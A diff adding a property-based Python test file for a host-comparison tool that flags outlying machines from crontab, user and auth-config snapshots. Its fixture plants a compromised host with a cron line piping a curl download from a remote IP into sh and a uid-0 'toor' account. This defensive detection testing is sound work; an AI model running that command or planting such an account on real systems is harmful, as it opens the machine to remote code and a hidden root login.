@@ -1,0 +1,110 @@
+"""What holds for every case, whoever the hosts are."""
+
+from __future__ import annotations
+
+import random
+from dataclasses import replace
+
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from bot.analysis import Case, judge
+from bot.model import Answer, Pack, QueryStatus, Report, Snapshot
+from tests.analysis.cases import PACK, Rows, case, honest
+
+VALUES = st.text(alphabet="ab/.1\x00é<", max_size=6)
+ROWS = st.lists(st.fixed_dictionaries({"path": VALUES, "mode": VALUES, "sha256": VALUES}), max_size=4)
+
+
+def planted(seed: int, count: int, *, baseline: int = 0) -> Case:
+    """Return a case in which the first host is compromised."""
+    hosts = honest(count, seed, deployed=count // 3)
+    rows: Rows = hosts[0][1]
+    rows["crontab"].append({"command": "curl http://203.0.113.9/x | sh", "path": "/etc/cron.d/x"})
+    rows["users"].append({"username": "toor", "uid": "0", "shell": "/bin/bash"})
+    return case(hosts, baseline=honest(baseline, seed + 1, first=500))
+
+
+def mixed(snapshots: tuple[Snapshot, ...], rng: random.Random) -> tuple[Snapshot, ...]:
+    """Return the snapshots with hosts, answers and rows in another order."""
+    inside = [
+        replace(
+            each,
+            answers=tuple(
+                replace(answer, rows=tuple(rng.sample(answer.rows, len(answer.rows))))
+                for answer in rng.sample(each.answers, len(each.answers))
+            ),
+        )
+        for each in snapshots
+    ]
+    return tuple(rng.sample(inside, len(inside)))
+
+
+@settings(max_examples=25, deadline=None)
+@given(seed=st.integers(0, 10_000), count=st.integers(1, 7), baseline=st.sampled_from([0, 1, 3]))
+def test_the_order_of_hosts_answers_and_rows_never_matters(seed: int, count: int, baseline: int) -> None:
+    """Answers arrive in any order; the report is the same to the last character."""
+    before = planted(seed, count, baseline=baseline)
+    rng = random.Random(seed)
+    after = replace(before, snapshots=mixed(before.snapshots, rng), baseline=mixed(before.baseline, rng))
+
+    assert judge(after) == judge(before)
+
+
+@settings(max_examples=25, deadline=None)
+@given(rows=ROWS, count=st.integers(1, 6), baseline=st.integers(0, 3))
+def test_hosts_that_say_the_same_give_nothing(rows: list[dict[str, str]], count: int, baseline: int) -> None:
+    """Whatever identical hosts say, none of them differs from the others."""
+    twins = [(about, {"auth_config_files": rows}) for about, _ in honest(count + baseline)]
+    given_case = case(twins[:count], baseline=twins[count:])
+
+    report = judge(given_case)
+
+    assert report.findings == ()
+    assert report.outliers == ()
+
+
+@settings(max_examples=20, deadline=None)
+@given(seed=st.integers(0, 10_000), gone=st.sampled_from([q.name for q in PACK.queries]))
+def test_removing_a_query_only_removes_claims_about_it(seed: int, gone: str) -> None:
+    """A thinner collection makes no new claims."""
+    whole = planted(seed, 8)
+    smaller = Pack(PACK.name, PACK.description, tuple(q for q in PACK.queries if q.name != gone))
+
+    before, after = judge(whole), judge(replace(whole, pack=smaller))
+
+    assert gone not in {finding.query for finding in after.findings}
+    assert {(f.query, f.hosts) for f in after.findings if f.outlying} <= {
+        (f.query, f.hosts) for f in before.findings
+    }
+
+
+@settings(max_examples=30, deadline=None)
+@given(
+    rows=st.lists(ROWS, min_size=1, max_size=5),
+    statuses=st.lists(st.sampled_from(QueryStatus), min_size=5, max_size=5),
+)
+def test_any_host_text_in_any_state_gives_a_whole_report(
+    rows: list[list[dict[str, str]]], statuses: list[QueryStatus]
+) -> None:
+    """Hosts say what they like, also missing columns and queries that failed; every host still gets its place."""
+    hosts = honest(len(rows))
+    odd = case([(about, {"auth_config_files": given}) for (about, _), given in zip(hosts, rows, strict=True)])
+    snapshots = tuple(
+        replace(
+            s,
+            answers=(
+                Answer(
+                    "auth_config_files", status, s.answers[0].rows if status is QueryStatus.TOO_MANY else ()
+                ),
+            ),
+        )
+        if status not in (QueryStatus.ROWS, QueryStatus.EMPTY)
+        else s
+        for s, status in zip(odd.snapshots, statuses, strict=False)
+    )
+
+    report: Report = judge(replace(odd, snapshots=snapshots))
+
+    assert sorted(host.id for host in report.hosts) == sorted(about.id for about, _ in hosts)
+    assert sorted(host.rank for host in report.hosts) == list(range(1, len(hosts) + 1))
